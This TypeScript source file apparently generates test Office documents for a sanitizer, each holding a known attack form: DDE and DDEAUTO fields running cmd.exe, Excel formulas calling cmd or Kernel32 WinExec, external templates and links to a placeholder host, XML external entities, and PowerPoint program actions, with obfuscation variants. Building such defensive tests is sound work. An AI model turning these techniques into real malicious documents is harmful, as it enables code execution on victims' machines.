import { officeFile, wordFile, wordParts, wordText, type ZipParts } from '../builders/files';
import type { Dice } from './dice';
import { capitals, content, elsewhere, encoded, packedOrNot, tag, trap, vectorDrawing } from './xml-writing';

/** Word, Excel and PowerPoint files that run something or fetch something. */

const namespace = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';

type Trap = (dice: Dice) => Promise<Buffer>;

const commands = [
  ...['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'DDE excel classeur L1C1'],
  ...['INCLUDEPICTURE "http://ailleurs.example/x.png" \\d', 'INCLUDETEXT "\\\\\\\\ailleurs.example\\\\x.docx"'],
  ...['IMPORT "http://ailleurs.example/x.png"', 'LINK Excel.Sheet.8 "c:\\\\x.xls" L1C1', 'EMBED Package'],
  ...[
    'DATABASE \\d "c:\\\\x.mdb"',
    'MACROBUTTON Lancer Ici',
    'RD "c:\\\\x.docx"',
    'AUTOTEXT x',
    'PRINT 27',
    'CONTROL x',
  ],
  ...[
    'HYPERLINK "javascript:alert(1)"',
    'HYPERLINK \\t "_blank" "file:///c:/x.exe"',
    'HYPERLINK \\\\\\\\ailleurs.example\\\\x',
  ],
];

function command(dice: Dice): string {
  const said = dice.one(commands);
  const end = said.indexOf(' ');
  return dice.one(['', ' ', '\u00a0 ', '\n']) + capitals(dice, said.slice(0, end)) + said.slice(end);
}

/** Text of Word under any prefix, in any wrapping. */
function body(dice: Dice, prefix: string, inner: string): string {
  const p = (name: string, inside: string): string => `<${prefix}:${name}>${inside}</${prefix}:${name}>`;
  const paragraph = p('p', inner);
  return dice.one([
    paragraph,
    p('sdt', p('sdtContent', paragraph)),
    p('tbl', p('tr', p('tc', paragraph))),
    `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x">${p('p', '')}</mc:Choice><mc:Fallback>${paragraph}</mc:Fallback></mc:AlternateContent>`,
    p('p', p('r', p('pict', p('txbxContent', paragraph)))),
  ]);
}

function wordPart(dice: Dice, root: string, inner: (prefix: string) => string): Buffer {
  const prefix = dice.one(['w', 'w', 'ns0', 'Z', 'r2']);
  const text = `${head}<${prefix}:${root} xmlns:${prefix}="${namespace}" xmlns:r="${relations}">${inner(prefix)}</${prefix}:${root}>`;
  return encoded(dice, text);
}

const inWord = (dice: Dice, inner: (prefix: string) => string): Promise<Buffer> => {
  const [name, root] = dice.one([
    ['word/document.xml', 'document'],
    ['word/document.xml', 'document'],
    ['word/header1.xml', 'hdr'],
    ['word/footnotes.xml', 'footnotes'],
    ['word/glossary/document.xml', 'glossaryDocument'],
  ] as const);
  return wordFile({ [name]: wordPart(dice, root, (prefix) => body(dice, prefix, inner(prefix))) });
};

const simpleField: Trap = (dice) =>
  inWord(dice, (prefix) =>
    tag(
      dice,
      `${prefix}:fldSimple`,
      { [`${prefix}:instr`]: command(dice) },
      `<${prefix}:r><${prefix}:t>x</${prefix}:t></${prefix}:r>`,
    ),
  );

/** A field whose words are cut in pieces, within another one or not. */
const cutField: Trap = (dice) =>
  inWord(dice, (prefix) => {
    const said = command(dice);
    const run = (inner: string): string => `<${prefix}:r>${inner}</${prefix}:r>`;
    const mark = (kind: string): string => run(tag(dice, `${prefix}:fldChar`, { [`${prefix}:fldCharType`]: kind }));
    const pieces: string[] = [];
    for (let at = 0; at < said.length;) {
      const length = dice.one([1, 2, 5, said.length]);
      pieces.push(run(`<${prefix}:instrText>${content(dice, said.slice(at, at + length))}</${prefix}:instrText>`));
      at += length;
    }
    const shown = dice.once(2) ? mark('separate') + run(`<${prefix}:t>x</${prefix}:t>`) : '';
    const field = mark('begin') + pieces.join('') + shown + (dice.once(5) ? '' : mark('end'));
    const outer = `${mark('begin')}${run(`<${prefix}:instrText> IF 1 = 1 </${prefix}:instrText>`)}${field}${mark('end')}`;
    return dice.one([field, outer, pieces.join('')]);
  });

const chosenField: Trap = (dice) => {
  const branch = (name: string, words: string): string =>
    `<mc:${name}${name === 'Choice' ? ' Requires="x"' : ''}><w:r><w:instrText>${content(dice, words)}</w:instrText></w:r></mc:${name}>`;
  const [mark, end] = ['begin', 'end'].map((kind) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`);
  const text = `<w:p xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">${String(mark)}<mc:AlternateContent>${branch('Choice', 'PAGE ')}${branch('Fallback', command(dice))}</mc:AlternateContent>${String(end)}</w:p>`;
  return wordFile({ 'word/document.xml': wordText(text) });
};

const kinds = [
  ...['image', 'oleObject', 'frame', 'subDocument', 'aFChunk', 'externalLink', 'video', 'audio', 'package', 'control'],
  ...[
    'vbaProject',
    'transform',
    'mailMergeSource',
    'queryTable',
    'connections',
    'settings',
    'officeDocument',
    'inconnu',
  ],
];

function relation(dice: Dice, type: string, target: string): Record<string, string> {
  return {
    Id: 'r1',
    Type: type,
    Target: target,
    TargetMode: dice.one(['External', 'External', 'external', ' External ']),
  };
}

function relationFile(dice: Dice, attributes: Record<string, string>, parts: ZipParts = {}): Promise<Buffer> {
  const prefix = dice.one(['', '', 'p:', 'ns1:']);
  const declared = prefix === '' ? 'xmlns' : `xmlns:${prefix.slice(0, -1)}`;
  const lines = tag(dice, `${prefix}Relationship`, attributes);
  const text = `${head}<${prefix}Relationships ${declared}="http://schemas.openxmlformats.org/package/2006/relationships">${lines}</${prefix}Relationships>`;
  const name = dice.one([
    'word/_rels/document.xml.rels',
    'word/_rels/settings.xml.rels',
    'word/_rels/header1.xml.rels',
  ]);
  return wordFile({ ...parts, [name]: encoded(dice, text) });
}

const relationElsewhere: Trap = (dice) =>
  relationFile(dice, relation(dice, `${dice.one([relations, strict])}/${dice.one(kinds)}`, elsewhere(dice)));

const relationWithin: Trap = (dice) => {
  const { TargetMode: _mode, ...attributes } = relation(dice, `${relations}/image`, elsewhere(dice));
  return relationFile(dice, attributes);
};

const linkToTrap: Trap = (dice) => relationFile(dice, relation(dice, `${relations}/hyperlink`, trap(dice)));

/** Taken out, and not refused. */
const template: Trap = (dice) =>
  relationFile(dice, relation(dice, `${dice.one([relations, strict])}/attachedTemplate`, elsewhere(dice)), {
    'word/settings.xml': wordPart(dice, 'settings', (prefix) =>
      tag(dice, `${prefix}:attachedTemplate`, { 'r:id': 'r1' }),
    ),
  });

const oldPicture: Trap = (dice) =>
  inWord(dice, (prefix) => {
    const picture = tag(dice, dice.one(['v:imagedata', 'v:fill', 'q:imagedata']), {
      [dice.one(['src', 'v:src'])]: elsewhere(dice),
    });
    return `<${prefix}:r xmlns:v="urn:schemas-microsoft-com:vml" xmlns:q="urn:schemas-microsoft-com:vml"><${prefix}:pict>${picture}</${prefix}:pict></${prefix}:r>`;
  });

const broughtIn: Trap = (dice) =>
  inWord(dice, (prefix) =>
    tag(dice, `${prefix}:${dice.one(['altChunk', 'subDoc', 'control', 'OLEObject', 'ins', 'del', 'moveFrom'])}`, {
      'r:id': 'r1',
    }),
  );

const ownEntities: Trap = (dice) =>
  wordFile({
    'word/document.xml': `${dice.one([head, ''])}<!DOCTYPE x [<!ENTITY ${dice.one(['a', '% a'])} ${dice.one(['"DDEAUTO"', 'SYSTEM "http://ailleurs.example/x"'])}>]>${wordText('<w:p/>').slice(head.length)}`,
  });

const formulas = [
  ...[
    "cmd|'/c calc'!A1",
    "=cmd|' /c calc'!A0",
    '[1]Feuil1!A1',
    "'[1]Feuil 1'!A1",
    "'\\\\ailleurs.example\\p\\[x.xlsx]F'!A1",
  ],
  ...[
    'WEBSERVICE("http://ailleurs.example")',
    '_xlfn.WEBSERVICE ("http://ailleurs.example")',
    '1+_xlfn.IMAGE("http://ailleurs.example")',
  ],
  ...[
    'RTD("x",,"y")',
    'CALL("Kernel32","WinExec","JCJ","calc",0)',
    'EXEC("calc")',
    'HYPERLINK("file:///c:/x.exe","x")',
  ],
  ...['SUM(A1,[2]Feuil1!B2)', 'IF(1,"a|b",cmd|x!A1)'],
];

const formula: Trap = (dice) => {
  const said = dice.one(formulas);
  const cell = tag(dice, dice.one(['f', 'x:f', 'formula1', 'definedName', 'x:formula']), {}, content(dice, said));
  return officeFile('xlsx', {
    'xl/worksheets/sheet1.xml': encoded(
      dice,
      `${head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${cell}</worksheet>`,
    ),
  });
};

const click: Trap = (dice) =>
  officeFile('pptx', {
    'ppt/slides/slide1.xml': encoded(
      dice,
      `${head}<p:sld xmlns:p="p" xmlns:a="a">${tag(dice, 'a:hlinkClick', { action: dice.one(['ppaction://program', 'ppaction://macro?name=x', 'ppaction://hlinkfile', 'ppaction://ole?verb=0', 'PPACTION://PROGRAM']) })}</p:sld>`,
    ),
  });

const drawing: Trap = (dice) =>
  wordFile({
    '[Content_Types].xml': String(wordParts()['[Content_Types].xml']).replace(
      '<Override',
      `<Default Extension="${dice.one(['svg', 'png', 'svgz'])}" ContentType="image/svg+xml"/><Override`,
    ),
    [`word/media/image1.${dice.one(['svg', 'png', 'svgz'])}`]: packedOrNot(dice, vectorDrawing(dice)),
  });

const hiddenPart: Trap = (dice) =>
  wordFile({
    [dice.one([
      'word/vbaProject.bin',
      'word/activeX/a.xml',
      'word/embeddings/x.bin',
      'word/x.exe',
      'word/x.bin',
      'word/media/x.html',
    ])]: 'MZ programme',
  });

export const openXmlTraps: Readonly<Record<string, Trap>> = {
  simpleField,
  cutField,
  chosenField,
  relationElsewhere,
  relationWithin,
  linkToTrap,
  template,
  oldPicture,
  broughtIn,
  ownEntities,
  formula,
  click,
  drawing,
  hiddenPart,
};
